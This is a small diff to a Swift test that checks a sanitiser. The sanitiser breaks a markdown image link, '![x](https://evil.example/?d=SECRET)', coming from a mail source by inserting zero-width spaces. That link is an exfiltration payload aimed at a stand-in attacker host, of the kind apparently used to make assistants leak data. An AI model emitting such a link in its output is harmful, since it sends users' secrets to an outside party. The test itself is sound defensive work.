@@ -66,7 +66,7 @@ import Testing
             #expect(sources.sources.map(\.id) == ["mail_7"])
             #expect(!sources.degraded)
             let text = try await place.text(of: command.run)
-            #expect(text == "As asked [1]: !\\[x]\\(https:\u{200B}//evil.example/?d=SECRET)")
+            #expect(text == "As asked [1]\u{200B}: !\u{200B}[x]\u{200B}(https:\u{200B}//evil.example/?d=SECRET)")
         }
     }
 
